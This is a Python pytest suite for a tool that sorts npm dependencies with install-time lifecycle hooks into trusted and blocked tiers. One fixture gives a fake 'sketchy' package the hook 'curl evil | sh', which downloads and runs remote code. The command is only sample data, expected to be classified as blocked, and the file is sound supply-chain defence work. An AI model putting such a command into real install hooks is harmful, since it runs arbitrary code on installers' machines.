"""Tests for the lifecycle-hook trust cross-referencer."""

from __future__ import annotations

from collections import Counter

import pytest

from conftest import add_dependency, write_json
from fleetscan.models import ProjectRecord, Snapshot, XrefEntry
from fleetscan.trust import DEFAULT_TRUSTED, LIFECYCLE_HOOKS, is_default_trusted
from fleetscan.xref import classify, cross_reference, cross_reference_project, has_lifecycle_hook


def _project(path, trusted=(), lock_hash="-", has_manifest=True) -> ProjectRecord:
    return ProjectRecord(
        folder=path.name,
        path=str(path),
        name=path.name,
        has_manifest=has_manifest,
        trusted_deps=list(trusted),
        lock_hash=lock_hash,
    )


@pytest.fixture
def hooked_project(make_project):
    project = make_project("app", manifest={"name": "app"})
    add_dependency(project, "sharp", {"install": "node install.js", "postinstall": "node check.js"})
    add_dependency(project, "esbuild", {"postinstall": "node install.js"})
    add_dependency(project, "my-native", {"preinstall": "node-gyp rebuild"})
    add_dependency(project, "sketchy", {"postinstall": "curl evil | sh"})
    add_dependency(project, "@acme/codegen", {"prepare": "tsc"})
    add_dependency(project, "plain", {"test": "bun test"})
    add_dependency(project, "no-scripts")
    add_dependency(project, "empty-hook", {"postinstall": ""})
    (project / "node_modules" / "broken").mkdir()
    (project / "node_modules" / "broken" / "package.json").write_text("{oops")
    return project


class TestTrustList:
    def test_well_known_entries(self):
        for name in ("sharp", "esbuild", "bcrypt", "@prisma/client"):
            assert name in DEFAULT_TRUSTED

    def test_is_default_trusted(self):
        assert is_default_trusted("sharp")
        assert not is_default_trusted("sketchy")
        assert not is_default_trusted("Sharp")

    def test_hooks(self):
        assert "postinstall" in LIFECYCLE_HOOKS
        assert "install" not in LIFECYCLE_HOOKS


class TestHelpers:
    def test_has_lifecycle_hook(self):
        assert has_lifecycle_hook({"prepublishOnly": "tsc"})
        assert not has_lifecycle_hook({"postinstall": ""})
        assert not has_lifecycle_hook({"build": "tsc"})
        assert not has_lifecycle_hook(None)
        assert not has_lifecycle_hook(["postinstall"])

    def test_default_list_checked_first(self):
        assert classify("sharp", {"sharp"}) == "default_trusted"
        assert classify("my-native", {"my-native"}) == "explicit_trusted"
        assert classify("sketchy", set()) == "blocked"


class TestCrossReferenceProject:
    def test_classification(self, hooked_project):
        entry = cross_reference_project(_project(hooked_project, trusted=["my-native", "esbuild"]), hooked_project)
        assert entry is not None
        assert entry.default_trusted == ["esbuild", "sharp"]
        assert entry.explicit_trusted == ["my-native"]
        assert entry.blocked == ["@acme/codegen", "sketchy"]

    def test_partition(self, hooked_project):
        entry = cross_reference_project(_project(hooked_project, trusted=["my-native"]), hooked_project)
        tiers = [set(entry.default_trusted), set(entry.explicit_trusted), set(entry.blocked)]
        assert not (tiers[0] & tiers[1] or tiers[0] & tiers[2] or tiers[1] & tiers[2])
        assert set().union(*tiers) == {"sharp", "esbuild", "my-native", "sketchy", "@acme/codegen"}
        assert entry.hook_count == 5

    def test_no_node_modules(self, make_project):
        project = make_project("fresh", manifest={})
        assert cross_reference_project(_project(project), project) is None

    def test_no_hooks(self, make_project):
        project = make_project("quiet", manifest={})
        add_dependency(project, "plain", {"build": "tsc"})
        assert cross_reference_project(_project(project), project) is None

    def test_lock_hash_carried(self, hooked_project):
        entry = cross_reference_project(_project(hooked_project, lock_hash="abc123"), hooked_project)
        assert entry.lock_hash == "abc123"


class TestCrossReference:
    def test_skips_projects_without_manifest(self, hooked_project, make_project):
        other = make_project("assets")
        add_dependency(other, "sketchy", {"postinstall": "x"})
        result = cross_reference([_project(hooked_project), _project(other, has_manifest=False)])
        assert [e.folder for e in result.entries] == ["app"]

    def test_cache_hit_reuses_entry_verbatim(self, hooked_project):
        cached = XrefEntry(folder="app", default_trusted=["cached"], lock_hash="h1")
        previous = Snapshot(timestamp="t", date="d", timezone="UTC", projects=[cached])
        metrics: Counter[str] = Counter()

        result = cross_reference([_project(hooked_project, lock_hash="h1")], previous, metrics=metrics)

        assert result.entries == [cached]
        assert result.skipped == 1
        assert metrics["xref.cache_hits"] == 1

    def test_changed_hash_recomputes(self, hooked_project):
        cached = XrefEntry(folder="app", default_trusted=["cached"], lock_hash="h1")
        previous = Snapshot(timestamp="t", date="d", timezone="UTC", projects=[cached])

        result = cross_reference([_project(hooked_project, lock_hash="h2")], previous)

        assert result.skipped == 0
        assert result.entries[0].default_trusted == ["esbuild", "sharp"]
        assert result.entries[0].lock_hash == "h2"

    def test_no_lockfile_never_cached(self, hooked_project):
        cached = XrefEntry(folder="app", default_trusted=["cached"], lock_hash="-")
        previous = Snapshot(timestamp="t", date="d", timezone="UTC", projects=[cached])
        result = cross_reference([_project(hooked_project)], previous)
        assert result.skipped == 0

    def test_rerun_is_idempotent(self, hooked_project):
        project = _project(hooked_project, trusted=["my-native"], lock_hash="h1")
        first = cross_reference([project])
        previous = Snapshot(timestamp="t", date="d", timezone="UTC", projects=first.entries)

        second = cross_reference([project], previous)

        assert second.skipped == 1
        assert second.entries[0].model_dump_json() == first.entries[0].model_dump_json()

    def test_projects_root_override(self, hooked_project, tmp_path):
        moved = ProjectRecord(folder="app", path="/nonexistent", name="app", has_manifest=True)
        result = cross_reference([moved], projects_root=hooked_project.parent)
        assert result.entries[0].folder == "app"

    def test_scoped_package_counted_once(self, make_project):
        project = make_project("dup", manifest={})
        add_dependency(project, "@acme/hooked", {"postinstall": "x"})
        write_json(project / "node_modules" / "@acme" / "other" / "package.json", {"name": "other"})
        result = cross_reference([_project(project)])
        assert result.entries[0].blocked == ["@acme/hooked"]

    def test_total_default_trusted(self, hooked_project):
        result = cross_reference([_project(hooked_project)])
        assert result.total_default_trusted == 2
